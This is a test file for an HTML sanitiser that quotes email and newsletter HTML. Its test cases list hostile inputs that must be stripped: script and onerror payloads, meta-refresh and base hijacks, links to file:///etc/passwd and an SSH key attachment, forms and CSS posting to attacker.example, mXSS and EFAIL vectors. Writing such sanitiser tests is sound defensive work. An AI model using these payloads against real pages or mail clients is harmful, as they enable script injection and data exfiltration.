import { describe, expect, it } from 'vitest';
import { quotedHtml, quotedHtmlText } from './quoted-html';

/** A newsletter laid out with tables, as mail programs and mailing services write them. */
const regattaHtml = `<!doctype html><html><head><title>Regatta</title>
<style>td { padding: 4px } .x { background: url(https://tracker.example/bg.png) }</style></head>
<body style="margin:0"><table width="600" cellpadding="0" background="https://tracker.example/table.png">
<tr><td><h2 style="color:#123">Regatta schedule</h2></td></tr>
<tr><td><table class="times"><tr><th>Race</th><th>Start</th></tr>
<tr><td>Novice fours</td><td>9:00</td></tr><tr><td colspan="1" rowspan="x">Senior eights</td><td onclick="alert(1)">11:30</td></tr></table></td></tr>
<tr><td><img src="https://tracker.example/pixel.gif" width="1" height="1"><p>See you at the <b>quay</b>, <a href="https://harbor.test/map" target="_blank" style="color:red">map</a>.</p></td></tr>
</table></body></html>`;

describe('quotedHtml', () => {
  it('keeps the tables, headings, emphasis and links of a layout, without styles, images or handlers', () => {
    const html = quotedHtml(regattaHtml);
    expect(html).toContain('<table>');
    expect(html).toContain('<tr><td>Novice fours</td><td>9:00</td></tr>');
    expect(html).toContain('<th>Race</th>');
    expect(html).toContain('<td colspan="1">Senior eights</td><td>11:30</td>');
    expect(html).toContain('<h2>Regatta schedule</h2>');
    expect(html).toContain('<b>quay</b>, <a href="https://harbor.test/map">map</a>');
    expect(html).not.toMatch(/tracker\.example|<img|<style|style=|onclick|background|target|Regatta<\/title>|class=/);
  });

  it.each([
    ['script', '<p>Hello</p><script>fetch("https://attacker.example/s")</script>'],
    ['handlers', '<p onclick="fetch(1)" onmouseover="x()">Hello</p><img src=x onerror="fetch(2)">'],
    [
      'meta refresh and base',
      '<meta http-equiv="refresh" content="0;url=https://attacker.example/"><base href="https://attacker.example/"><p>Hello</p>',
    ],
    [
      'frames and plugins',
      '<iframe srcdoc="<script>x()</script>"></iframe><object data="javascript:x()">Ob</object><embed src="https://attacker.example/e"><p>Hello</p>',
    ],
    [
      'dangerous links',
      '<a href="javascript:x()">j</a><a href="smb://attacker.example/s">s</a><a href="file:///etc/passwd">f</a><a href="mailto:bob@harbor.test?attach=~/.ssh/id_rsa">m</a><a href="https://user:pw@attacker.example/">u</a><p>Hello</p>',
    ],
    [
      'remote images and sources',
      '<img srcset="https://attacker.example/1x.png 1x"><video poster="https://attacker.example/p.png"></video><picture><source srcset="https://attacker.example/s.png"></picture><p>Hello</p>',
    ],
    [
      'forms',
      '<form action="https://attacker.example/f"><input name="q" value="v"><button formaction="https://attacker.example/b">Go</button></form><p>Hello</p>',
    ],
    [
      'css',
      '<style>@import url(https://attacker.example/i.css); @\\69 mport "x"</style><link rel=stylesheet href="https://attacker.example/l.css"><p style="background:url(https://attacker.example/bg)">Hello</p>',
    ],
    [
      'mXSS through math and style',
      '<math><mtext><table><mglyph><style><img src=https://attacker.example/m onerror=alert(1)></style></mglyph></table></mtext></math><p>Hello</p>',
    ],
    ['comments', '<!--<img src="--><img src=https://attacker.example/c onerror=alert(1)//">--><p>Hello</p>'],
    ['EFAIL', '<img src="https://attacker.example/efail?<br/>\n<p>secret</p>"><p>Hello</p>'],
  ])('%s: nothing that could run, load or navigate is left, the text is', (_name, html) => {
    const quoted = quotedHtml(html);
    expect(quoted).toContain('Hello');
    expect(quoted).not.toMatch(/<(?!\/?(p|a|b|table|tr|td|br)\b)[a-z]/i);
    expect(quoted).not.toMatch(/attacker\.example|javascript:|smb:|file:|attach=|\son\w+=|style=|src=/i);
  });

  it('escapes what the text says', () => {
    expect(quotedHtml('<p>a &lt;b&gt; &amp; "c"</p>')).toBe('<p>a &lt;b&gt; &amp; &quot;c&quot;</p>');
    expect(quotedHtml('<p>&lt;img src=x onerror=alert(1)&gt;</p>')).toBe('<p>&lt;img src=x onerror=alert(1)&gt;</p>');
  });
});

describe('quotedHtmlText', () => {
  it('sets table cells apart instead of running them together', () => {
    const text = quotedHtmlText(regattaHtml);
    expect(text).not.toContain('Novice fours9:00');
    expect(text).toMatch(/Novice fours\s+9:00/);
    expect(text).toMatch(/Senior eights\s+11:30/);
    expect(text).toContain('Regatta schedule');
    expect(text).toContain('See you at the quay, map.');
    expect(text).not.toMatch(/tracker|Regatta<|td \{/);
  });
});
